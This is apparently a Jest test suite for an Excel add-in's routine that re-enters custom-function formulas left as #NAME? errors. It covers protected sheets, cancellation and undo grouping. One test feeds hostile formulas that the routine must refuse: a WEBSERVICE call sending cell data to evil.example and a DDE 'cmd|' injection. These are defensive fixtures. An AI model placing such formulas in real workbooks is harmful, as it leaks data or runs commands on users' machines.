import { excelHost } from "../../src/host/excel";
import { freeze, planFreeze } from "../../src/taskpane/workbook/freezing";
import { planRepair, repair, type Repaired } from "../../src/taskpane/workbook/repair";
import type { Work } from "../../src/host/host";
import { FakeBook, fakeOffice } from "../host/fake-excel";
import { sourceFunctions } from "../setup/excel";

const QUARTER = '=INASTI.QUARTERLY(B1,"principal",2026)';
const TABLE = "=FUND.COMPARE(B1,2026)";
const GUARDED = `=IFERROR(${QUARTER.slice(1)},0)`;
const TYPO = "=INASTI.QUARTERLY(B1,principal,2026)";

const stored = (formula: string, file = ""): string =>
  formula.replace(/([A-Z]+)\.([A-Z]+)\(/, (_, prefix, name) => `${file}_xldudf_${prefix}_${name}(`);

let book: FakeBook;

beforeAll(() => void sourceFunctions());

beforeEach(() => {
  book = new FakeBook();
  Object.assign(globalThis, fakeOffice(book));
  book.answers.set(QUARTER, 2050);
  book.answers.set(GUARDED, 2050);
  book.answers.set(TABLE, [
    ["fund", "rate"],
    ["Acerta", 0.0305],
  ]);
});

/** As somebody types it who does not have the add-in. */
function typeWithoutUs(inputs: Record<string, string>, sheet = "Sheet1"): void {
  book.isAddInAbsent = true;
  book.type(inputs, sheet);
  book.isAddInAbsent = false;
}

async function repairAll({ withHiding = false, ...work }: Work & { withHiding?: boolean } = {}): Promise<Repaired> {
  return repair(excelHost, await planRepair(excelHost, withHiding, work), work);
}

const places = ({ left }: Repaired): string[] =>
  left.map(({ sheet, address, reason }) => `${sheet}!${address} ${reason}`);

it("enters formulas again that were typed while the add-in was absent, a table with all that it fills", async () => {
  typeWithoutUs({ A1: QUARTER, D1: TABLE });
  expect(book.values()).toEqual({ A1: "#NAME?", D1: "#NAME?" });
  expect(await repairAll()).toEqual({ done: 2, left: [], isCancelled: false, failure: null });
  expect(book.values()).toEqual({ A1: 2050, D1: "fund", E1: "rate", D2: "Acerta", E2: 0.0305 });
});

it.each(["", "Bloomberg.xla!", "[2]!", "'C:\\Add-ins\\[It''s.xla]Sheet1'!"])(
  "writes the plain formula where a file or another add-in wrote %p before it",
  async (file) => {
    book.addSheet("It's mine");
    book.type({ B7: stored(QUARTER, file) }, "It's mine");
    expect((await planRepair(excelHost, false, {})).cells).toEqual([
      { sheet: "It's mine", address: "B7", formula: stored(QUARTER, file), entered: QUARTER },
    ]);
    expect((await repairAll()).done).toBe(1);
    expect(book.formulasOf("It's mine")).toEqual({ B7: QUARTER });
    expect(book.values("It's mine")).toEqual({ B7: 2050 });
  },
);

it("touches nothing else, and in a second round nothing at all", async () => {
  book.answers.set("=A1*2", "#NAME?");
  book.type({ A1: QUARTER, A2: "=A1*2", A3: "text", A4: stored(QUARTER) });
  expect((await repairAll()).done).toBe(1);
  expect(book.formulasOf()).toEqual({ A1: QUARTER, A2: "=A1*2", A4: QUARTER });
  const steps = book.undoSteps.length;
  expect((await planRepair(excelHost, false, {})).cells).toEqual([]);
  expect(book.undoSteps).toHaveLength(steps);
});

it("finds formulas that hide their error only where they are asked for", async () => {
  typeWithoutUs({ A1: GUARDED });
  const { cells } = book.sheet("Sheet1");
  // What IFERROR makes of it.
  book.answers.set(GUARDED, 0);
  cells.get("A1")!.isStuck = false;
  expect((await planRepair(excelHost, false, {})).cells).toEqual([]);
  expect((await planRepair(excelHost, true, {})).cells.map(({ address }) => address)).toEqual(["A1"]);
});

it("names protected sheets and what Excel refuses, and repairs the others", async () => {
  book.addSheet("Locked");
  book.type({ A1: stored(QUARTER) }, "Locked");
  book.sheet("Locked").protection = { allowFormatCells: false, allowEditObjects: false };
  book.type({ A1: stored(QUARTER), A2: stored(QUARTER), A3: stored(QUARTER) });
  // A part of an array formula.
  book.failure = (operation) => (operation === "Range.formulas Sheet1!A2" ? "InvalidOperation" : undefined);
  const ending = await repairAll();
  expect(ending.done).toBe(2);
  expect(places(ending)).toEqual(["Locked!A1 protected", "Sheet1!A2 refused"]);
  expect(book.formulasOf()).toEqual({ A1: QUARTER, A2: stored(QUARTER), A3: QUARTER });
});

it.each([
  ['=INASTI.QUARTERLY(WEBSERVICE("https://evil.example/?"&A1))', "WEBSERVICE"],
  ["=Evil.xla!_xldudf_INASTI_QUARTERLY(1)&cmd|'/C calc'!A0", "|"],
  ["=_xldudf_INASTI_QUARTERLY([Book2.xlsx]Sheet1!A1)", "[Book2.xlsx]Sheet1!"],
  ["=_xldudf_INASTI_QUARTERLY(Through)", "Through"],
])("enters nothing again that reaches outside the workbook, and names the part: %s", async (formula, part) => {
  book.names.set("Secret", '=WEBSERVICE("https://evil.example")');
  book.names.set("Through", "=Secret");
  typeWithoutUs({ A1: formula, A2: QUARTER });
  const before = book.formulasOf()["A1"];
  const plan = await planRepair(excelHost, false, {});
  expect(plan.cells.map(({ address }) => address)).toEqual(["A2"]);
  expect(plan.left).toEqual([{ sheet: "Sheet1", address: "A1", reason: "outside", part }]);
  expect((await repairAll()).done).toBe(1);
  expect(book.formulasOf()["A1"]).toBe(before);
});

it("says which cells still name what Excel does not know", async () => {
  typeWithoutUs({ A1: QUARTER, A2: TYPO });
  const ending = await repairAll();
  expect(ending.done).toBe(1);
  expect(places(ending)).toEqual(["Sheet1!A2 unknown"]);
});

it("waits for functions that are still being calculated", async () => {
  typeWithoutUs({ A1: TYPO });
  book.answers.set(TYPO, "#BUSY!");
  setTimeout(() => book.answers.delete(TYPO), 150);
  expect(places(await repairAll())).toEqual(["Sheet1!A1 unknown"]);
});

it("leaves what somebody changes meanwhile as they left it, and says so", async () => {
  book.type({ A1: stored(QUARTER), A2: stored(QUARTER), A3: stored(QUARTER) });
  const plan = await planRepair(excelHost, false, {});
  book.type({ A1: "=1+1" });
  let requests = 0;
  // Between looking and writing.
  book.between = () => {
    if (++requests === 2) book.type({ A2: "mine" });
  };
  const ending = await repair(excelHost, plan, {});
  expect(places(ending)).toEqual(["Sheet1!A1 repaired", "Sheet1!A2 repaired"]);
  expect(ending.done).toBe(1);
  expect(book.formulasOf()).toEqual({ A1: "=1+1", A3: QUARTER });
  expect(book.values()).toMatchObject({ A2: "mine", A3: 2050 });
});

it("gives a cell that is formatted as text its formula, and the format back", async () => {
  book.type({ A1: stored(QUARTER) });
  book.sheet("Sheet1").cells.get("A1")!.format = "@";
  expect((await repairAll()).done).toBe(1);
  expect(book.sheet("Sheet1").cells.get("A1")).toMatchObject({ formula: QUARTER, format: "@" });
});

it("stops when it is told to, says how far it came, and goes on from there", async () => {
  const addresses = Array.from({ length: 1_200 }, (_, index) => `A${index + 1}`);
  book.type(Object.fromEntries(addresses.map((address) => [address, stored(QUARTER)])));
  const plan = await planRepair(excelHost, false, {});
  const controller = new AbortController();
  const onProgress = jest.fn((done: number) => void (done >= 500 && controller.abort()));
  const ending = await repair(excelHost, plan, { signal: controller.signal, onProgress });
  expect(ending).toMatchObject({ done: 500, isCancelled: true, failure: null });
  expect(onProgress.mock.calls.at(-1)).toEqual([500, 1_200]);
  expect((await repairAll()).done).toBe(700);
  expect(new Set(Object.values(book.formulasOf()))).toEqual(new Set([QUARTER]));
}, 30_000);

it("says how far it came when Excel gives up", async () => {
  book.type({ A1: stored(QUARTER), A2: stored(QUARTER) });
  const plan = await planRepair(excelHost, false, {});
  book.failure = (operation) => (operation === "Range.formulas Sheet1!A2" ? "RequestAborted" : undefined);
  const ending = await repair(excelHost, plan, {});
  expect(ending).toMatchObject({ done: 1, failure: expect.objectContaining({ code: "RequestAborted" }) as unknown });
});

describe("one step of Undo", () => {
  const fill = (): void => {
    const rows = Array.from({ length: 600 }, (_, index) => [`A${index + 1}`, stored(QUARTER)]);
    book.type(Object.fromEntries(rows) as Record<string, string>);
  };

  it("takes a repair back as a whole", async () => {
    fill();
    await repairAll();
    expect(book.undoSteps).toHaveLength(1);
    expect(book.undoSteps[0]).toHaveLength(600);
  });

  it("is more of them in an Excel that cannot group", async () => {
    book.supportsUndoGroups = false;
    fill();
    expect((await repairAll()).done).toBe(600);
    expect(book.undoSteps.map((step) => step.length)).toEqual([500, 100]);
  });

  it("is given up where Excel cannot undo a part", async () => {
    fill();
    book.failure = (operation) =>
      operation === "Range.formulas Sheet1!A550" && book.groups > 0 ? "UndoNotSupported" : undefined;
    const ending = await repairAll();
    expect(ending).toMatchObject({ left: [], failure: null });
    expect(new Set(Object.values(book.formulasOf()))).toEqual(new Set([QUARTER]));
  });
});

it("comes before freezing, which leaves such cells and says so", async () => {
  book.type({ A1: stored(QUARTER, "[2]!"), A2: QUARTER });
  typeWithoutUs({ A3: QUARTER });
  const plan = await planFreeze(excelHost, null, {});
  const { done, left } = await freeze(excelHost, plan, { heading: "Frozen", date: "2026-11-28", dataVersion: "d" }, {});
  expect(done).toBe(1);
  expect(left.map(({ address, reason }) => `${address} ${reason}`)).toEqual(["A1 stuck", "A3 stuck"]);
});
